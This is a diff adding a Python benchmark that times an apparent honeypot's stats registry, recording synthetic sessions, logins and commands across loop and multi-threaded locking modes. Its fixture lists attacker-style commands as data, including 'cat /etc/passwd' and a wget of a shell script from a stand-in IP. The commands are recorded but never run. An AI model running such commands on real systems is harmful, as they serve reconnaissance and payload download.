@@ -0,0 +1,119 @@
+"""Microbenchmark of the stats registry's record path.
+
+    python -m src.bench_stats --ops 100000 --mode both --threads 4
+
+Replays a synthetic session mix (start, login, a few commands, end)
+through a fresh `StatsRegistry` and reports the cost per call of each
+record method, plus a `snapshot()` for comparison. `loop` is the default
+loop-owned registry; `locked` is the same registry after
+`set_thread_safe()`, driven from `--threads` worker threads at once so
+lock contention and the hand-off to the loop show up in the numbers.
+"""
+import argparse
+import asyncio
+import json
+import os
+import sys
+import threading
+import time
+from typing import Dict, List
+
+if __package__ in (None, ''):
+    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+    from src.metrics import StatsRegistry  # noqa: E402
+else:
+    from .metrics import StatsRegistry
+
+COMMANDS = (
+    ('uname -a', 'ALLOW', 'recon', True),
+    ('cat /etc/passwd', 'FAKE', 'recon', True),
+    ('wget http://203.0.113.7/x.sh', 'DELAY', 'download', True),
+    ('ls -la', 'ALLOW', 'none', False),
+)
+
+
+def _drive(stats: StatsRegistry, worker: int, sessions: int, timings: Dict[str, float]):
+    """Record `sessions` synthetic sessions, adding seconds spent per method
+    to `timings`."""
+    clock = time.perf_counter
+    totals = dict.fromkeys(('start_session', 'record_login', 'record_command', 'end_session'), 0.0)
+    for n in range(sessions):
+        sid = f'w{worker}-{n}'
+        ip = f'10.{worker}.{n // 256 % 256}.{n % 256}'
+        t0 = clock()
+        stats.record_login(ip, 'root', f'pw{n % 5000}')
+        t1 = clock()
+        stats.start_session(sid, ip, 'root')
+        t2 = clock()
+        for command, action, pattern, malicious in COMMANDS:
+            stats.record_command(sid, command, action, pattern, malicious)
+        t3 = clock()
+        stats.end_session(sid)
+        t4 = clock()
+        totals['record_login'] += t1 - t0
+        totals['start_session'] += t2 - t1
+        totals['record_command'] += t3 - t2
+        totals['end_session'] += t4 - t3
+    for name, seconds in totals.items():
+        timings[name] = timings.get(name, 0.0) + seconds
+
+
+async def run(mode: str, ops: int, threads: int) -> Dict:
+    stats = StatsRegistry()
+    timings: Dict[str, float] = {}
+    workers = 1
+    started = time.perf_counter()
+    if mode == 'loop':
+        _drive(stats, 0, ops, timings)
+    else:
+        stats.set_thread_safe(asyncio.get_running_loop())
+        workers = max(1, threads)
+        per = ops // workers
+        parts: List[Dict[str, float]] = [{} for _ in range(workers)]
+        pool = [threading.Thread(target=_drive, args=(stats, w, per, parts[w])) for w in range(workers)]
+        for t in pool:
+            t.start()
+        while any(t.is_alive() for t in pool):
+            # Keep the loop turning so handed-off events are published.
+            await asyncio.sleep(0.001)
+        for part in parts:
+            for name, seconds in part.items():
+                timings[name] = timings.get(name, 0.0) + seconds
+        ops = per * workers
+        # Let the last hand-offs run.
+        await asyncio.sleep(0.05)
+    elapsed = time.perf_counter() - started
+    calls = {'record_login': ops, 'start_session': ops, 'record_command': ops * len(COMMANDS), 'end_session': ops}
+    t = time.perf_counter()
+    snapshot = stats.snapshot()
+    snapshot_us = (time.perf_counter() - t) * 1e6
+    return {
+        'mode': mode,
+        'threads': workers,
+        'sessions': ops,
+        'events': stats.hub.last_id,
+        'sessions_per_second': round(ops / elapsed),
+        'us_per_call': {name: round(timings[name] / calls[name] * 1e6, 3) for name in calls},
+        'snapshot_us': round(snapshot_us, 1),
+        'commands_total': snapshot['commands_total'],
+    }
+
+
+def parse_args(argv=None):
+    p = argparse.ArgumentParser(description='Benchmark the stats registry record path')
+    p.add_argument('--ops', type=int, default=100_000, help='synthetic sessions to record')
+    p.add_argument('--mode', choices=('loop', 'locked', 'both'), default='both')
+    p.add_argument('--threads', type=int, default=4, help='recording threads in locked mode')
+    return p.parse_args(argv)
+
+
+def main(argv=None):
+    args = parse_args(argv)
+    modes = ('loop', 'locked') if args.mode == 'both' else (args.mode,)
+    results = [asyncio.run(run(mode, args.ops, args.threads)) for mode in modes]
+    json.dump(results, sys.stdout, indent=2)
+    print()
+
+
+if __name__ == '__main__':
+    main()